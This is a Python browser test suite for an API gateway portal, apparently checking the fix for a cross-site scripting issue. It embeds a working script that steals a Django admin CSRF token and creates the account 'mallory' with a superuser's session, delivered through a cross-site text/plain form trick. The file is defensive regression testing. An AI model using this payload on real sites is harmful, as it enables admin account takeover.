"""Gateway answers cannot run script in the console's origin (issue 9, findings 1 and 2), in real Chromium,
against the product's WSGI application, with a superuser logged in to the console on the same origin.

The script under test is the one of the review: it reads a CSRF token from the console's "add user" page
and creates a user with the superuser's session. Each attack has a twin with the gateway's isolation
turned off (no isolation headers, untyped bodies as Django's default ``text/html``, as before the fix), in
which the same script does create the user: so the attack tests cannot pass because no script ever runs.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import AbstractUser
from playwright.sync_api import Page, expect

from portal import gateway_http
from portal.models import Catalog
from portal.services import Actor
from tests.browser.conftest import console_user
from tests.tokens.helpers import api_document
from tokens import views
from tokens.services import api_publish, api_save, app_create, app_subscribe

pytestmark = pytest.mark.browser

Url = Callable[[str], str]
ATTACKER = "http://attacker.test/"
MALLORY = "mallory"
# Synchronous first (the title), then the account takeover of the review, which ends by setting the title.
ATTACK = (
    "document.title = 'script ran';"
    "fetch('/admin/auth/user/add/', {credentials: 'same-origin'}).then(r => r.text()).then(html => {"
    '  const token = /name="csrfmiddlewaretoken" value="([^"]+)"/.exec(html)[1];'
    "  const form = new URLSearchParams({csrfmiddlewaretoken: token, username: '" + MALLORY + "',"
    "    usable_password: 'true', password1: 'Quite-unusual-passphrase-42', password2: 'Quite-unusual-passphrase-42'});"
    "  return fetch('/admin/auth/user/add/', {method: 'POST', body: form, credentials: 'same-origin'});"
    "}).then(() => { document.title = 'user created'; });"
)


@pytest.fixture
def client_id(sandbox: Catalog, actor: Actor) -> str:
    """An operator's two published APIs in sandbox, and an app subscribed to both: ``/echo`` (POST, no
    policy: the request body comes back, with no declared type) and ``/page`` (GET, answers text/html with
    the attack in a script element)."""
    page = (
        "<html><head><title>Published page</title></head>"
        f"<body><h1>An operator's page</h1><script>{ATTACK}</script></body></html>"
    )
    echo = api_document(name="echo", base_path="/echo", paths=("/go",), execute=[])
    echo["paths"]["/go"] = {"post": {"responses": {"200": {"description": "ok"}}}}
    html = api_document(
        name="page",
        base_path="/page",
        paths=("/go",),
        execute=[
            {
                "set-variable": {
                    "title": "answer",
                    "actions": [
                        {"set": "message.headers.Content-Type", "value": "text/html"},
                        {"set": "message.body", "value": page},
                    ],
                }
            }
        ],
    )
    app, _ = app_create(catalog=sandbox, name="Partner App", with_secret=False, actor=actor)
    for document in (echo, html):
        api, _ = api_save(organization=sandbox.organization, document=document, actor=actor)
        publication = api_publish(api=api, catalog=sandbox, actor=actor)
        app_subscribe(app=app, publication=publication, actor=actor)
    return app.client_id


@pytest.fixture
def superuser(sign_in: Callable[[AbstractUser], None]) -> AbstractUser:
    user = console_user("root", superuser=True)
    sign_in(user)
    return user


@pytest.fixture
def isolation_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """The gateway as it was before issue 9: no isolation headers, untyped bodies as Django's text/html."""
    monkeypatch.setattr(gateway_http, "SECURITY_HEADERS", {})
    monkeypatch.setattr(views, "DEFAULT_BODY_CONTENT_TYPE", "text/html; charset=utf-8")


def mallory_exists() -> bool:
    return get_user_model().objects.filter(username=MALLORY).exists()


def serve_attacker_page(page: Page, action: str) -> None:
    """A cross-site page that posts a text/plain form on load; its body is ``<script>ATTACK</script><!--=-->``."""
    name = json.dumps(f"<script>{ATTACK}</script><!--").replace("<", "\\u003c")
    html = (
        "<html><body><form method='post' enctype='text/plain'></form><script>"
        f"const form = document.forms[0]; form.action = {json.dumps(action)};"
        f"const field = document.createElement('input'); field.name = {name}; field.value = '-->';"
        "form.appendChild(field); form.submit();</script></body></html>"
    )
    page.route(ATTACKER, lambda route: route.fulfill(status=200, content_type="text/html", body=html))


def echo_url(url: Url, client_id: str) -> str:
    return url(f"/personal/sandbox/echo/go?client_id={client_id}")


# -- finding 1: a cross-site form posts a script to an echoing operation -----------------------------------


def test_a_cross_site_form_echoed_by_the_gateway_runs_no_script(
    page: Page, url: Url, client_id: str, superuser: AbstractUser
) -> None:
    serve_attacker_page(page, echo_url(url, client_id))

    with page.expect_download(timeout=15_000) as download:
        page.goto(ATTACKER, wait_until="commit")

    # The answer reached the browser as opaque bytes: saved, never rendered in the portal's origin.
    assert download.value.url == echo_url(url, client_id)
    assert page.url == ATTACKER
    assert page.title() != "script ran"
    assert not mallory_exists()


def test_twin_without_isolation_the_echoed_script_takes_over_the_session(
    page: Page, url: Url, client_id: str, superuser: AbstractUser, isolation_off: None
) -> None:
    serve_attacker_page(page, echo_url(url, client_id))

    page.goto(ATTACKER)

    expect(page).to_have_title("user created")
    assert page.url == echo_url(url, client_id)
    assert mallory_exists()


# -- finding 2: an operator's API answers text/html with a script -------------------------------------------


def test_an_operators_html_page_runs_no_script_for_a_superuser(
    page: Page, url: Url, client_id: str, superuser: AbstractUser
) -> None:
    response = page.goto(url(f"/personal/sandbox/page/go?client_id={client_id}"))

    # The page was rendered as HTML (its own title and heading), and its inline script, which would have
    # changed the title before the load event, did not run: the answer's policy sandboxed it.
    expect(page.locator("h1")).to_have_text("An operator's page")
    assert page.title() == "Published page"
    assert not mallory_exists()
    assert response is not None
    assert response.headers["content-security-policy"] == gateway_http.GATEWAY_CONTENT_SECURITY_POLICY


def test_twin_without_isolation_the_operators_page_takes_over_the_session(
    page: Page, url: Url, client_id: str, superuser: AbstractUser, isolation_off: None
) -> None:
    page.goto(url(f"/personal/sandbox/page/go?client_id={client_id}"))

    expect(page).to_have_title("user created")
    assert mallory_exists()
